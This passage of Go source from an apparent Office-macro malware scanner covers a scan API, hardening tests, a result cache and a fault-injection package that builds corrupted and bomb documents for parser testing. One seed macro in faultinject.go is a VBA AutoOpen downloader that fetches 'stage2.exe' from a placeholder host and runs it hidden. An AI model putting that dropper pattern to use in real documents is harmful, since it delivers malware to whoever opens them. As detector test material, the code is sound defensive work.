			results, stats, err = engine.ScanAll(ctx, docs)
		}()
		done <- err
	}()
	if err := <-done; err != nil {
		var pe *scan.PanicError
		if errors.As(err, &pe) {
			s.metrics.Errors.Add("panic", 1)
			writeJSON(w, http.StatusInternalServerError, map[string]string{"error": err.Error()})
			return
		}
		s.metrics.Errors.Add("timeout", 1)
		writeJSON(w, http.StatusGatewayTimeout, map[string]string{"error": "batch deadline exceeded"})
		return
	}

	resp := BatchResponse{
		RequestID: requestID(r.Context()),
		Files:     make([]ScanResponse, len(results)),
		Stats: BatchStats{
			Files:       stats.Files,
			Macros:      stats.Macros,
			Skipped:     stats.Skipped,
			Errors:      stats.Errors,
			WallMS:      float64(stats.WallNS) / 1e6,
			FilesPerSec: stats.FilesPerSec(),
		},
	}
	for i, res := range results {
		fr := ScanResponse{File: res.Name}
		s.recordOutcome(&fr, scanOutcome{report: res.Report, tm: res.Timings, err: res.Err}, res.CacheHit)
		resp.Files[i] = fr
	}
	s.metrics.RequestLatency.Observe(time.Since(start))
	writeJSON(w, http.StatusOK, resp)
}

// writeJSON writes v as the JSON response body with the given status.
func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json; charset=utf-8")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetEscapeHTML(false)
	_ = enc.Encode(v)
}
