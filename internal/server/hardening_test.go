package server

import (
	"bytes"
	"encoding/json"
	"io"
	"mime/multipart"
	"net/http"
	"testing"

	"repro/internal/faultinject"
	"repro/internal/hostile"
)

// postBatch posts named documents as one multipart batch request.
func postBatch(t *testing.T, url string, files map[string][]byte) (*http.Response, BatchResponse) {
	t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for name, data := range files {
		fw, err := mw.CreateFormFile("file", name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := fw.Write(data); err != nil {
			t.Fatal(err)
		}
	}
	mw.Close()
	resp, err := http.Post(url+"/v1/scan/batch", mw.FormDataContentType(), &buf)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var br BatchResponse
	if err := json.NewDecoder(resp.Body).Decode(&br); err != nil {
		t.Fatal(err)
	}
	return resp, br
}

// TestHardeningHTTPMapping drives fault-injected documents through the
// HTTP API and asserts the full taxonomy → HTTP contract on one server
// instance: partial corruption → 200 with "degraded": true, a
// decompression bomb → 422 with quarantine accounting, truncation → 422
// with a typed class — and /metrics exposing nonzero degraded /
// quarantined / per-limit counters afterwards.
func TestHardeningHTTPMapping(t *testing.T) {
	cfg := quietConfig()
	cfg.Limits = hostile.Limits{MaxDecompressedBytes: 1 << 20}
	srv, ts := newTestServer(t, cfg)
	// The fixture detector is shared across the package's tests; restore
	// its default limits when this test is done.
	t.Cleanup(func() { fixture(t).SetLimits(hostile.Limits{}) })

	// Partially corrupted two-module document: one module survives, so the
	// scan succeeds degraded.
	partial, err := faultinject.PartialCorruption()
	if err != nil {
		t.Fatal(err)
	}
	resp, sr := postScan(t, ts.URL, partial.Data)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("degraded scan status = %d, want 200", resp.StatusCode)
	}
	if sr.Report == nil || !sr.Report.Degraded {
		t.Fatalf("degraded scan should set report.degraded, got %+v", sr.Report)
	}
	if len(sr.Report.Errors) == 0 || sr.Report.Errors[0].Stream == "" {
		t.Fatalf("degraded report should list per-stream errors, got %+v", sr.Report.Errors)
	}
	if len(sr.Report.Macros) != 1 {
		t.Fatalf("one macro should survive, got %d", len(sr.Report.Macros))
	}

	// Decompression bomb under the 1MiB budget: 422, quarantined, and a
	// decompressed_bytes limit hit.
	bomb, err := faultinject.DecompressionBomb()
	if err != nil {
		t.Fatal(err)
	}
	resp, sr = postScan(t, ts.URL, bomb.Data)
	if resp.StatusCode != http.StatusUnprocessableEntity {
		t.Fatalf("bomb status = %d, want 422", resp.StatusCode)
	}
	if sr.ErrorClass != "bomb" && sr.ErrorClass != "limit" {
		t.Fatalf("bomb error_class = %q, want bomb/limit", sr.ErrorClass)
	}

	// Truncated document: 422 with a typed taxonomy class.
	doc, err := faultinject.ValidDoc()
	if err != nil {
		t.Fatal(err)
	}
	resp, sr = postScan(t, ts.URL, doc[:600])
	if resp.StatusCode != http.StatusUnprocessableEntity {
		t.Fatalf("truncated status = %d, want 422", resp.StatusCode)
	}
	if sr.ErrorClass != "truncated" && sr.ErrorClass != "malformed" {
		t.Fatalf("truncated error_class = %q, want truncated/malformed", sr.ErrorClass)
	}

	// The metric tree must now expose every hardening counter nonzero.
	if got := srv.Metrics().Degraded.Value(); got == 0 {
		t.Error("metrics degraded counter is zero")
	}
	if got := srv.Metrics().Quarantined.Value(); got == 0 {
		t.Error("metrics quarantined counter is zero")
	}
	if v := srv.Metrics().LimitHits.Get(hostile.LimitDecompressedBytes); v == nil {
		t.Error("metrics limit_hits has no decompressed_bytes entry")
	}

	// And the same counters must survive the trip through GET /metrics.
	mresp, err := http.Get(ts.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer mresp.Body.Close()
	body, err := io.ReadAll(mresp.Body)
	if err != nil {
		t.Fatal(err)
	}
	var tree struct {
		Degraded    int64            `json:"degraded"`
		Quarantined int64            `json:"quarantined"`
		LimitHits   map[string]int64 `json:"limit_hits"`
		Errors      map[string]int64 `json:"errors"`
	}
	if err := json.Unmarshal(body, &tree); err != nil {
		t.Fatalf("metrics not valid JSON: %v\n%s", err, body)
	}
	if tree.Degraded == 0 || tree.Quarantined == 0 {
		t.Errorf("/metrics degraded=%d quarantined=%d, want both nonzero", tree.Degraded, tree.Quarantined)
	}
	if tree.LimitHits[hostile.LimitDecompressedBytes] == 0 {
		t.Errorf("/metrics limit_hits[%s] = 0, want nonzero (%v)",
			hostile.LimitDecompressedBytes, tree.LimitHits)
	}
}

// TestBatchDegradedAndQuarantined runs the same hostile documents through
// the batch endpoint: per-file outcomes keep their individual classes.
func TestBatchDegradedAndQuarantined(t *testing.T) {
	cfg := quietConfig()
	cfg.Limits = hostile.Limits{MaxDecompressedBytes: 1 << 20}
	_, ts := newTestServer(t, cfg)
	t.Cleanup(func() { fixture(t).SetLimits(hostile.Limits{}) })

	partial, err := faultinject.PartialCorruption()
	if err != nil {
		t.Fatal(err)
	}
	bomb, err := faultinject.DecompressionBomb()
	if err != nil {
		t.Fatal(err)
	}
	resp, br := postBatch(t, ts.URL, map[string][]byte{
		"partial.doc": partial.Data,
		"bomb.doc":    bomb.Data,
	})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("batch status = %d, want 200", resp.StatusCode)
	}
	byName := map[string]ScanResponse{}
	for _, f := range br.Files {
		byName[f.File] = f
	}
	if p := byName["partial.doc"]; p.Report == nil || !p.Report.Degraded {
		t.Errorf("partial.doc should be degraded, got %+v", p)
	}
	if b := byName["bomb.doc"]; b.ErrorClass != "bomb" && b.ErrorClass != "limit" {
		t.Errorf("bomb.doc error_class = %q, want bomb/limit", b.ErrorClass)
	}
}
