package cache

import (
	"bytes"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"

	"repro/internal/telemetry"
)

func keyN(n int) Key { return KeyOfString(fmt.Sprintf("key-%d", n)) }

func TestKeyOfStringMatchesKeyOf(t *testing.T) {
	for _, s := range []string{"", "a", "Sub Foo()\nEnd Sub", string(make([]byte, 4096))} {
		if KeyOfString(s) != KeyOf([]byte(s)) {
			t.Fatalf("KeyOfString(%q) differs from KeyOf of the same bytes", s)
		}
	}
}

// With a small entry capacity the cache collapses to a single shard, so
// eviction must follow exact global LRU order.
func TestEvictionOrder(t *testing.T) {
	c := New[int](3, 0)
	for i := 0; i < 3; i++ {
		c.Put(keyN(i), i, 1)
	}
	// Touch key 0 so key 1 becomes the LRU victim.
	if v, ok := c.Get(keyN(0)); !ok || v != 0 {
		t.Fatalf("Get(0) = %d, %v; want 0, true", v, ok)
	}
	c.Put(keyN(3), 3, 1)
	if _, ok := c.Get(keyN(1)); ok {
		t.Fatalf("key 1 should have been evicted as LRU")
	}
	for _, want := range []int{0, 2, 3} {
		if v, ok := c.Get(keyN(want)); !ok || v != want {
			t.Fatalf("Get(%d) = %d, %v; want hit", want, v, ok)
		}
	}
	st := c.Stats()
	if st.Evictions != 1 {
		t.Fatalf("evictions = %d, want 1", st.Evictions)
	}
	if st.Entries != 3 {
		t.Fatalf("entries = %d, want 3", st.Entries)
	}
}

func TestByteCapacityAccounting(t *testing.T) {
	c := New[string](0, 100)
	c.Put(keyN(0), "a", 40)
	c.Put(keyN(1), "b", 40)
	if got := c.SizeBytes(); got != 80 {
		t.Fatalf("SizeBytes = %d, want 80", got)
	}
	// Updating an entry in place must adjust the byte total, not add.
	c.Put(keyN(0), "a2", 10)
	if got := c.SizeBytes(); got != 50 {
		t.Fatalf("SizeBytes after resize = %d, want 50", got)
	}
	// Pushing past the cap evicts the LRU entry (key 1 — key 0 was just
	// refreshed by its Put).
	c.Put(keyN(2), "c", 60)
	if got := c.SizeBytes(); got > 100 {
		t.Fatalf("SizeBytes = %d exceeds the 100-byte cap", got)
	}
	if _, ok := c.Get(keyN(1)); ok {
		t.Fatalf("key 1 should have been evicted by byte pressure")
	}
	if _, ok := c.Get(keyN(0)); !ok {
		t.Fatalf("key 0 should have survived")
	}
	// An entry that can never fit is refused outright instead of flushing
	// the shard.
	before := c.Len()
	c.Put(keyN(3), "huge", 1000)
	if _, ok := c.Get(keyN(3)); ok {
		t.Fatalf("oversized entry should not have been admitted")
	}
	if c.Len() != before {
		t.Fatalf("oversized Put changed occupancy: %d -> %d", before, c.Len())
	}
}

func TestNilCacheIsDisabled(t *testing.T) {
	var c *Cache[int]
	c.Put(keyN(0), 1, 1)
	if _, ok := c.Get(keyN(0)); ok {
		t.Fatalf("nil cache returned a hit")
	}
	if c.Len() != 0 || c.SizeBytes() != 0 {
		t.Fatalf("nil cache reports occupancy")
	}
	if st := c.Stats(); st != (Stats{}) {
		t.Fatalf("nil cache stats = %+v, want zero", st)
	}
	if New[int](0, 0) != nil {
		t.Fatalf("New with no bounds should return nil (disabled)")
	}
}

func TestSingleflightCollapses(t *testing.T) {
	var f Flight[int]
	var calls atomic.Int32
	release := make(chan struct{})
	const n = 16

	var wg sync.WaitGroup
	leaders := make(chan bool, n)
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			v, err, leader := f.Do(keyN(0), func() (int, error) {
				calls.Add(1)
				<-release
				return 42, nil
			})
			if err != nil || v != 42 {
				t.Errorf("Do = %d, %v; want 42, nil", v, err)
			}
			leaders <- leader
		}()
	}
	// Wait until the leader is inside fn, then let everyone through.
	for calls.Load() == 0 {
	}
	close(release)
	wg.Wait()
	close(leaders)

	if got := calls.Load(); got != 1 {
		t.Fatalf("fn ran %d times, want 1", got)
	}
	nLeaders := 0
	for l := range leaders {
		if l {
			nLeaders++
		}
	}
	if nLeaders != 1 {
		t.Fatalf("%d callers claimed leadership, want exactly 1", nLeaders)
	}

	// After the flight lands, a new call runs fn again.
	_, _, leader := f.Do(keyN(0), func() (int, error) { calls.Add(1); return 7, nil })
	if !leader || calls.Load() != 2 {
		t.Fatalf("post-flight call should run fresh as leader")
	}
}

// Concurrent hit/miss churn across shards; meaningful under -race, and the
// invariants (occupancy within bounds, hits+misses == gets) must hold.
func TestConcurrentChurn(t *testing.T) {
	const (
		maxEntries = 256
		maxBytes   = 64 * 1024
		workers    = 8
		opsEach    = 4000
	)
	c := New[int](maxEntries, maxBytes)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(seed int) {
			defer wg.Done()
			rng := uint64(seed)*2654435761 + 1
			for i := 0; i < opsEach; i++ {
				rng = rng*6364136223846793005 + 1442695040888963407
				k := keyN(int(rng % 512))
				if rng&1 == 0 {
					c.Put(k, int(rng), int64(rng%300))
				} else {
					c.Get(k)
				}
			}
		}(w)
	}
	wg.Wait()

	if got := c.Len(); got > maxEntries {
		t.Fatalf("entries %d exceed cap %d", got, maxEntries)
	}
	if got := c.SizeBytes(); got > maxBytes {
		t.Fatalf("bytes %d exceed cap %d", got, maxBytes)
	}
	st := c.Stats()
	var gets int64
	// Every Get increments exactly one of hits/misses.
	gets = st.Hits + st.Misses
	if gets == 0 {
		t.Fatalf("churn recorded no gets")
	}
	if st.Entries != int64(c.Len()) || st.Bytes != c.SizeBytes() {
		t.Fatalf("stats snapshot inconsistent with live occupancy: %+v", st)
	}
}

func TestRegisterMetrics(t *testing.T) {
	c := New[int](64, 0)
	c.Put(keyN(0), 1, 8)
	c.Get(keyN(0))
	c.Get(keyN(1))

	reg := telemetry.NewRegistry()
	c.RegisterMetrics(reg, "doc_cache")
	var out bytes.Buffer
	if err := reg.WritePrometheus(&out); err != nil {
		t.Fatalf("WritePrometheus: %v", err)
	}
	buf := out.Bytes()
	sum, err := telemetry.ParseExposition(buf)
	if err != nil {
		t.Fatalf("exposition invalid: %v\n%s", err, buf)
	}
	for name, typ := range map[string]string{
		"doc_cache_hits":      "counter",
		"doc_cache_misses":    "counter",
		"doc_cache_evictions": "counter",
		"doc_cache_entries":   "gauge",
		"doc_cache_bytes":     "gauge",
	} {
		if sum.Families[name] != typ {
			t.Fatalf("family %s = %q, want %q\n%s", name, sum.Families[name], typ, buf)
		}
	}
}
