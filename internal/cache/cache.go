// Package cache is the content-addressed result cache behind the scan
// pipeline's dedup fast path: a sharded, mutex-striped LRU keyed by
// SHA-256. Real Office corpora repeat the same macro bodies across
// thousands of documents (the paper's own 4,212 extracted macros collapse
// to far fewer unique ones, Table II), so keying verdicts by content hash
// turns the common repeated-document case into a map lookup instead of a
// full parse → featurize → classify pass.
//
// The cache is bounded two ways: a maximum entry count and a maximum byte
// size (caller-accounted per entry), both enforced per shard with LRU
// eviction. Hit/miss/eviction totals are kept as atomics and can be
// published on a telemetry.Registry with RegisterMetrics.
package cache

import (
	"crypto/sha256"
	"encoding/binary"
	"hash"
	"sync"
	"sync/atomic"

	"repro/internal/telemetry"
)

// Key is a content address: the SHA-256 of whatever the cached value was
// computed from (a macro source, a whole document).
type Key = [32]byte

// KeyOf hashes raw bytes into a cache key.
func KeyOf(data []byte) Key { return sha256.Sum256(data) }

// KeyOfString hashes a string into a cache key without copying the whole
// string to a heap byte slice: it feeds the digest through a small stack
// buffer instead.
func KeyOfString(s string) Key {
	h := sha256.New()
	var buf [512]byte
	for len(s) > 0 {
		n := copy(buf[:], s)
		_, _ = h.Write(buf[:n])
		s = s[n:]
	}
	var k Key
	h.Sum(k[:0])
	return k
}

// KeyOfSalted hashes salt‖0x00‖data into a cache key. The salt carries
// identity that is not part of the payload — the detector's feature-set
// version, say — so the same bytes cached under different salts occupy
// different keys, and a salt change turns stale entries into misses
// instead of poisoned hits. The 0x00 separator keeps (salt, data) pairs
// unambiguous (no salt contains NUL).
func KeyOfSalted(salt string, data []byte) Key {
	h := sha256.New()
	writeStringChunked(h, salt)
	_, _ = h.Write([]byte{0})
	_, _ = h.Write(data)
	var k Key
	h.Sum(k[:0])
	return k
}

// KeyOfSaltedString is KeyOfSalted for a string payload, feeding both
// parts through a stack buffer like KeyOfString.
func KeyOfSaltedString(salt, s string) Key {
	h := sha256.New()
	writeStringChunked(h, salt)
	_, _ = h.Write([]byte{0})
	writeStringChunked(h, s)
	var k Key
	h.Sum(k[:0])
	return k
}

// writeStringChunked feeds a string into a hash through a small stack
// buffer, avoiding a heap copy of the whole string.
func writeStringChunked(h hash.Hash, s string) {
	var buf [512]byte
	for len(s) > 0 {
		n := copy(buf[:], s)
		_, _ = h.Write(buf[:n])
		s = s[n:]
	}
}

// Stats is a point-in-time snapshot of cache effectiveness counters.
type Stats struct {
	// Hits and Misses count Get outcomes over the cache's lifetime.
	Hits, Misses int64
	// Evictions counts entries removed by capacity pressure (updates and
	// explicit growth do not count).
	Evictions int64
	// Entries and Bytes are the current occupancy.
	Entries int64
	// Bytes is the caller-accounted size of all live entries.
	Bytes int64
}

// entry is one LRU node; shards keep an intrusive doubly-linked list in
// recency order (head = most recent).
type entry[V any] struct {
	key        Key
	val        V
	size       int64
	prev, next *entry[V]
}

// shard is one mutex-striped LRU segment with its own capacity slice.
type shard[V any] struct {
	mu         sync.Mutex
	items      map[Key]*entry[V]
	head, tail *entry[V]
	bytes      int64
	maxEntries int
	maxBytes   int64
}

// Cache is a sharded LRU keyed by SHA-256, safe for concurrent use. A nil
// *Cache is a valid disabled instance: Get always misses without counting
// and Put is a no-op.
type Cache[V any] struct {
	shards []shard[V]
	mask   uint64

	hits, misses, evictions atomic.Int64
}

// New builds a cache bounded by maxEntries entries and maxBytes
// caller-accounted bytes (either <= 0 means unbounded on that axis; both
// <= 0 is rejected as nil — an unbounded cache is a leak, not a cache).
// Capacity is divided evenly across shards; small entry capacities get a
// single shard so eviction order is exact.
func New[V any](maxEntries int, maxBytes int64) *Cache[V] {
	if maxEntries <= 0 && maxBytes <= 0 {
		return nil
	}
	nshards := 16
	if (maxEntries > 0 && maxEntries < 2*nshards) || (maxBytes > 0 && maxBytes < 1<<20) {
		// With only a sliver of capacity per shard the per-shard caps would
		// distort the global LRU order badly; collapse to one exact LRU.
		nshards = 1
	}
	c := &Cache[V]{shards: make([]shard[V], nshards), mask: uint64(nshards - 1)}
	for i := range c.shards {
		c.shards[i].items = make(map[Key]*entry[V])
		if maxEntries > 0 {
			per := maxEntries / nshards
			if i < maxEntries%nshards {
				per++
			}
			if per < 1 {
				per = 1
			}
			c.shards[i].maxEntries = per
		}
		if maxBytes > 0 {
			per := maxBytes / int64(nshards)
			if per < 1 {
				per = 1
			}
			c.shards[i].maxBytes = per
		}
	}
	return c
}

// shardFor picks the stripe for a key. SHA-256 output is uniform, so the
// low 64 bits index shards evenly.
func (c *Cache[V]) shardFor(k Key) *shard[V] {
	return &c.shards[binary.LittleEndian.Uint64(k[:8])&c.mask]
}

// Get returns the cached value for k and refreshes its recency. The second
// result reports whether the key was present.
func (c *Cache[V]) Get(k Key) (V, bool) {
	var zero V
	if c == nil {
		return zero, false
	}
	s := c.shardFor(k)
	s.mu.Lock()
	e, ok := s.items[k]
	if !ok {
		s.mu.Unlock()
		c.misses.Add(1)
		return zero, false
	}
	s.moveFront(e)
	v := e.val
	s.mu.Unlock()
	c.hits.Add(1)
	return v, true
}

// Put inserts or refreshes k with the given value and caller-accounted
// size, evicting least-recently-used entries until the shard fits its
// entry and byte budgets again. An entry larger than the byte budget is
// dropped immediately rather than wiping the rest of the shard.
func (c *Cache[V]) Put(k Key, v V, size int64) {
	if c == nil {
		return
	}
	if size < 0 {
		size = 0
	}
	s := c.shardFor(k)
	if s.maxBytes > 0 && size > s.maxBytes {
		// An entry that can never fit would evict the whole shard and then
		// itself; don't admit it at all.
		return
	}
	s.mu.Lock()
	if e, ok := s.items[k]; ok {
		s.bytes += size - e.size
		e.val, e.size = v, size
		s.moveFront(e)
	} else {
		e := &entry[V]{key: k, val: v, size: size}
		s.items[k] = e
		s.bytes += size
		s.pushFront(e)
	}
	evicted := 0
	for s.tail != nil && s.overCapacity() {
		s.remove(s.tail)
		evicted++
	}
	s.mu.Unlock()
	if evicted > 0 {
		c.evictions.Add(int64(evicted))
	}
}

func (s *shard[V]) overCapacity() bool {
	return (s.maxEntries > 0 && len(s.items) > s.maxEntries) ||
		(s.maxBytes > 0 && s.bytes > s.maxBytes)
}

func (s *shard[V]) pushFront(e *entry[V]) {
	e.prev = nil
	e.next = s.head
	if s.head != nil {
		s.head.prev = e
	}
	s.head = e
	if s.tail == nil {
		s.tail = e
	}
}

func (s *shard[V]) moveFront(e *entry[V]) {
	if s.head == e {
		return
	}
	// Unlink.
	if e.prev != nil {
		e.prev.next = e.next
	}
	if e.next != nil {
		e.next.prev = e.prev
	}
	if s.tail == e {
		s.tail = e.prev
	}
	s.pushFront(e)
}

func (s *shard[V]) remove(e *entry[V]) {
	if e.prev != nil {
		e.prev.next = e.next
	} else {
		s.head = e.next
	}
	if e.next != nil {
		e.next.prev = e.prev
	} else {
		s.tail = e.prev
	}
	e.prev, e.next = nil, nil
	s.bytes -= e.size
	delete(s.items, e.key)
}

// Len is the current number of live entries across all shards.
func (c *Cache[V]) Len() int {
	if c == nil {
		return 0
	}
	n := 0
	for i := range c.shards {
		s := &c.shards[i]
		s.mu.Lock()
		n += len(s.items)
		s.mu.Unlock()
	}
	return n
}

// SizeBytes is the caller-accounted size of all live entries.
func (c *Cache[V]) SizeBytes() int64 {
	if c == nil {
		return 0
	}
	var n int64
	for i := range c.shards {
		s := &c.shards[i]
		s.mu.Lock()
		n += s.bytes
		s.mu.Unlock()
	}
	return n
}

// Stats snapshots the cache counters and occupancy.
func (c *Cache[V]) Stats() Stats {
	if c == nil {
		return Stats{}
	}
	return Stats{
		Hits:      c.hits.Load(),
		Misses:    c.misses.Load(),
		Evictions: c.evictions.Load(),
		Entries:   int64(c.Len()),
		Bytes:     c.SizeBytes(),
	}
}

// RegisterMetrics publishes the cache's counters and occupancy gauges on
// reg under the given name prefix: <prefix>_hits, <prefix>_misses,
// <prefix>_evictions (counters) and <prefix>_entries, <prefix>_bytes
// (gauges). A nil cache registers nothing.
func (c *Cache[V]) RegisterMetrics(reg *telemetry.Registry, prefix string) {
	if c == nil || reg == nil {
		return
	}
	reg.CounterFunc(prefix+"_hits", "Cache lookups served from the cache.",
		func() int64 { return c.hits.Load() })
	reg.CounterFunc(prefix+"_misses", "Cache lookups that fell through to the pipeline.",
		func() int64 { return c.misses.Load() })
	reg.CounterFunc(prefix+"_evictions", "Cache entries evicted by capacity pressure.",
		func() int64 { return c.evictions.Load() })
	reg.GaugeFunc(prefix+"_entries", "Live cache entries.",
		func() float64 { return float64(c.Len()) })
	reg.GaugeFunc(prefix+"_bytes", "Caller-accounted bytes of live cache entries.",
		func() float64 { return float64(c.SizeBytes()) })
}
