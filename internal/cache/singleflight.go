package cache

import "sync"

// flightCall is one in-progress computation shared by every concurrent
// caller asking for the same key.
type flightCall[V any] struct {
	done chan struct{}
	val  V
	err  error
}

// Flight collapses concurrent duplicate work: while one caller (the
// leader) computes the value for a key, followers asking for the same key
// block and share the leader's result instead of recomputing it. Results
// are not retained once the leader returns — this is request collapsing,
// not a cache. The zero value is ready to use.
type Flight[V any] struct {
	mu    sync.Mutex
	calls map[Key]*flightCall[V]
}

// Do runs fn for k unless an identical call is already in flight, in which
// case it waits for that call and returns its result. The third result
// reports whether this caller was the leader (the one that actually ran
// fn) — callers that hold per-request resources use it to decide who owns
// cleanup.
func (f *Flight[V]) Do(k Key, fn func() (V, error)) (v V, err error, leader bool) {
	f.mu.Lock()
	if f.calls == nil {
		f.calls = make(map[Key]*flightCall[V])
	}
	if c, ok := f.calls[k]; ok {
		f.mu.Unlock()
		<-c.done
		return c.val, c.err, false
	}
	c := &flightCall[V]{done: make(chan struct{})}
	f.calls[k] = c
	f.mu.Unlock()

	c.val, c.err = fn()

	f.mu.Lock()
	delete(f.calls, k)
	f.mu.Unlock()
	close(c.done)
	return c.val, c.err, true
}
