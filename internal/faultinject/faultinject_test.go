package faultinject

import (
	"errors"
	"testing"

	"repro/internal/cfb"
	"repro/internal/extract"
	"repro/internal/hostile"
	"repro/internal/ovba"
)

func TestValidBaselinesExtract(t *testing.T) {
	ole, err := ValidDoc()
	if err != nil {
		t.Fatal(err)
	}
	docm, err := ValidOOXML()
	if err != nil {
		t.Fatal(err)
	}
	for _, data := range [][]byte{ole, docm} {
		res, err := extract.File(data)
		if err != nil {
			t.Fatal(err)
		}
		if len(res.Macros) != 2 || res.Degraded {
			t.Fatalf("baseline should yield 2 clean macros, got %d (degraded=%v)",
				len(res.Macros), res.Degraded)
		}
	}
}

func TestFATCycleTripsCycleDefense(t *testing.T) {
	ole, err := ValidDoc()
	if err != nil {
		t.Fatal(err)
	}
	c, err := FATCycle(ole)
	if err != nil {
		t.Fatal(err)
	}
	_, err = cfb.Parse(c.Data)
	if err == nil {
		t.Fatal("FAT cycle should not parse cleanly")
	}
	if !errors.Is(err, hostile.ErrCycle) && !errors.Is(err, hostile.ErrLimitExceeded) {
		t.Fatalf("want cycle/limit taxonomy, got %v", err)
	}
}

func TestBombContainerExpansion(t *testing.T) {
	const n = 4096
	bomb, err := BombContainer(n)
	if err != nil {
		t.Fatal(err)
	}
	if len(bomb) != n {
		t.Fatalf("bomb length = %d, want exactly %d", len(bomb), n)
	}
	out, err := ovba.Decompress(bomb) // default budget: 256MiB, plenty
	if err != nil {
		t.Fatalf("bomb must be a valid container under a large budget: %v", err)
	}
	if ratio := len(out) / n; ratio < 200 {
		t.Fatalf("expansion ratio %d:1, want >= 200:1 (out=%d)", ratio, len(out))
	}
	// Under a small budget the same container must be rejected as a bomb.
	_, err = ovba.DecompressBudget(bomb, hostile.NewBudget(hostile.Limits{MaxDecompressedBytes: 64 * 1024}))
	if !errors.Is(err, hostile.ErrBomb) {
		t.Fatalf("want ErrBomb under 64KiB budget, got %v", err)
	}
}

func TestDecompressionBombDocTripsBudget(t *testing.T) {
	c, err := DecompressionBomb()
	if err != nil {
		t.Fatal(err)
	}
	bud := hostile.NewBudget(hostile.Limits{MaxDecompressedBytes: 1 << 20})
	_, err = extract.FileBudget(c.Data, bud)
	if err == nil {
		t.Fatal("bomb document should not extract under a 1MiB budget")
	}
	if !hostile.ExhaustsBudget(err) {
		t.Fatalf("bomb should exhaust the budget (quarantine class), got %v", err)
	}
}

func TestZipBombTripsBudget(t *testing.T) {
	c, err := ZipBomb(8 << 20)
	if err != nil {
		t.Fatal(err)
	}
	bud := hostile.NewBudget(hostile.Limits{MaxDecompressedBytes: 1 << 20})
	_, err = extract.FileBudget(c.Data, bud)
	if !hostile.ExhaustsBudget(err) {
		t.Fatalf("zip bomb should exhaust the budget, got %v", err)
	}
}

func TestPartialCorruptionDegrades(t *testing.T) {
	c, err := PartialCorruption()
	if err != nil {
		t.Fatal(err)
	}
	res, err := extract.File(c.Data)
	if err != nil {
		t.Fatalf("partial corruption should degrade, not fail: %v", err)
	}
	if !res.Degraded || len(res.Errors) == 0 {
		t.Fatalf("want degraded result with recorded errors, got degraded=%v errors=%d",
			res.Degraded, len(res.Errors))
	}
	if len(res.Macros) != 1 {
		t.Fatalf("one module should survive, got %d", len(res.Macros))
	}
	if res.Macros[0].Module != "Module1" {
		t.Fatalf("surviving module = %q, want Module1", res.Macros[0].Module)
	}
}

func TestAllIsDeterministicAndNonEmpty(t *testing.T) {
	a, err := All(7)
	if err != nil {
		t.Fatal(err)
	}
	b, err := All(7)
	if err != nil {
		t.Fatal(err)
	}
	if len(a) < 40 {
		t.Fatalf("matrix too small: %d cases", len(a))
	}
	if len(a) != len(b) {
		t.Fatalf("nondeterministic case count: %d vs %d", len(a), len(b))
	}
	seen := make(map[string]bool, len(a))
	for i := range a {
		if a[i].Name != b[i].Name || !equalBytes(a[i].Data, b[i].Data) {
			t.Fatalf("case %d differs between runs: %s vs %s", i, a[i].Name, b[i].Name)
		}
		if seen[a[i].Name] {
			t.Fatalf("duplicate case name %q", a[i].Name)
		}
		seen[a[i].Name] = true
	}
}

func equalBytes(a, b []byte) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
