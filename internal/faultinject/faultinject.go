// Package faultinject builds hostile Office documents for robustness
// testing: structurally truncated files, bit-flipped files, compound files
// with FAT cycles, [MS-OVBA] decompression bombs, ZIP (DEFLATE) bombs and
// partially corrupted multi-module projects.
//
// Every generator starts from a structurally valid document produced by
// the repo's own writers (cfb.Builder, ovba.Project.WriteTo, ooxml.Write)
// and applies one surgical mutation, so each case exercises a specific
// parser defense rather than random noise. The corruption-matrix tests and
// the fuzz corpora both feed from here.
package faultinject

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"math/rand"
	"sort"

	"repro/internal/cfb"
	"repro/internal/ooxml"
	"repro/internal/ovba"
)

// Case is one hostile document with a descriptive name.
type Case struct {
	// Name identifies the mutation class and variant, e.g. "fat-cycle" or
	// "truncate@512".
	Name string
	// Data is the mutated document.
	Data []byte
}

// Module sources for the valid seed documents. Both clear the paper's
// 150-byte significance threshold so their verdicts are observable.
const (
	moduleOneSource = `Sub AutoOpen()
    Dim target As String
    Dim payload As String
    target = "http://example.test/stage2.exe"
    payload = Environ("TEMP") & "\update.exe"
    URLDownloadToFile 0, target, payload, 0, 0
    Shell payload, vbHide
End Sub
`
	moduleTwoSource = `Sub Document_Close()
    Dim k As Integer
    Dim acc As String
    For k = 1 To 32
        acc = acc & Chr(64 + (k Mod 26))
    Next k
    Call MsgBox("checksum " & acc, vbOKOnly, "report")
End Sub
`
)

// ValidDoc builds a structurally valid OLE document (Word .doc layout,
// project under the "Macros" storage) with two significant modules — the
// uncorrupted baseline every mutation starts from.
func ValidDoc() ([]byte, error) {
	p := &ovba.Project{Name: "Injected", Modules: []ovba.Module{
		{Name: "Module1", Source: moduleOneSource},
		{Name: "Module2", Source: moduleTwoSource},
	}}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, "Macros"); err != nil {
		return nil, err
	}
	return b.Bytes()
}

// ValidOOXML builds a structurally valid .docm wrapping the same project
// as ValidDoc in a vbaProject.bin part.
func ValidOOXML() ([]byte, error) {
	p := &ovba.Project{Name: "Injected", Modules: []ovba.Module{
		{Name: "Module1", Source: moduleOneSource},
		{Name: "Module2", Source: moduleTwoSource},
	}}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, ""); err != nil {
		return nil, err
	}
	vbaBin, err := b.Bytes()
	if err != nil {
		return nil, err
	}
	return ooxml.Write(ooxml.DocWord, vbaBin, 0)
}

const sectorSize = 512 // cfb.Builder emits v3 compound files

// Truncations cuts doc at structural boundaries: inside the header, at the
// header/sector seam, at sector boundaries through the body, and one byte
// short of the end. These land exactly where length validation is easiest
